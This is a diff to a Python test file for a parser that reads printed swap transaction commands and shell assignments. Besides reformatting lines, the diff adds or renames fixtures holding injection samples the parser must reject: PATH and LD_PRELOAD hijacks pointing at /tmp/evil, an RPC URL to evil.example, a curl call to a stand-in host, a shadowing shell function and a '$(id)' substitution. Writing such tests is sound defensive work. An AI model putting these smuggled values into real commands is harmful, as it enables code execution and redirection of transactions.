@@ -48,7 +48,9 @@ def is_swap(given: PayloadInput) -> bool:
     return (given.payload.to, given.payload.calldata, given.payload.value) == (ROUTER, SWAP, 5)
 
 
-@pytest.mark.parametrize("text", [CAST, SHELL, CAST.replace("\n", "\r\n"), SHELL.replace("\n", "\r\n"), f"\n{SHELL}\n\n"])
+@pytest.mark.parametrize(
+    "text", [CAST, SHELL, CAST.replace("\n", "\r\n"), SHELL.replace("\n", "\r\n"), f"\n{SHELL}\n\n"]
+)
 def test_the_printed_text_is_read_whole(text: str) -> None:
     given = parse_payload(text)
     assert given.oddities == ()
@@ -59,7 +61,9 @@ def test_the_printed_text_is_read_whole(text: str) -> None:
 
 HONEST: dict[str, str] = {
     "exported": "".join(f"export {each}\n" for each in SHELL.splitlines()),
-    "quoted": "".join(f"{name}='{value.strip(chr(39))}'\n" for name, _, value in (each.partition("=") for each in SHELL.splitlines())),
+    "quoted": "".join(
+        f"{name}='{value.strip(chr(39))}'\n" for name, _, value in (each.partition("=") for each in SHELL.splitlines())
+    ),
     "in double quotes": SHELL.replace("'", '"'),
     "no warnings": SHELL.replace("'STATE_MODELLED ROUTER_UNVERIFIED'", "''"),
     "one warning": SHELL.replace("'STATE_MODELLED ROUTER_UNVERIFIED'", "STATE_MODELLED"),
@@ -110,7 +114,7 @@ CAST_CHANGES: dict[str, tuple[Change, str]] = {
     "an assignment of PATH": (lambda text: f"PATH=/tmp/evil {text}", "an assignment to PATH at line 1, column 1"),
     "a library": (lambda text: f"LD_PRELOAD=/tmp/evil.so {text}", "an assignment to LD_PRELOAD"),
     "a node": (lambda text: f"ETH_RPC_URL=http://evil.example {text}", "an assignment to ETH_RPC_URL"),
-    "an assignment on its own line": (line(1, "ETH_RPC_URL=http://evil.example"), "an assignment to ETH_RPC_URL at line 1"),
+    "a node on its own line": (line(1, "ETH_RPC_URL=http://evil"), "an assignment to ETH_RPC_URL at line 1"),
     "an exported variable": (line(2, "export PATH=/tmp/evil"), "an assignment to PATH at line 2"),
     "a variable of calldata": (line(1, f"SWAP_TO={ROUTER}"), "an assignment to SWAP_TO"),
     "another command": (line(2, "curl http://evil.example/x"), "the word curl at line 2, column 1"),
@@ -160,7 +164,7 @@ SHELL_CHANGES: dict[str, tuple[Change, str]] = {
     "a function": (line(1, "cast() { id; }"), "( outside quotes at line 1, column 5"),
     "a line break inside quotes": (swap("STATE_MODELLED ", "STATE_MODELLED\n"), "a line break inside quotes at line 8"),
     "other warnings": (swap("STATE_MODELLED ", "$(id) "), "SWAP_WARNINGS has the value $(id)"),
-    "a time that is none": (swap("SWAP_EXPIRES_AT=1795900000", "SWAP_EXPIRES_AT=soon"), "SWAP_EXPIRES_AT has the value soon"),
+    "no time": (swap("SWAP_EXPIRES_AT=1795900000", "SWAP_EXPIRES_AT=soon"), "SWAP_EXPIRES_AT has the value soon"),
     "an array": (swap("SWAP_VALUE=5", "SWAP_VALUE[0]=5\nSWAP_VALUE=5"), "[ outside quotes"),
     "a plus": (line(5, "SWAP_VALUE+=5"), "the text has the word SWAP_VALUE+=5"),
     "a colon": (line(1, ": x"), "the word :"),
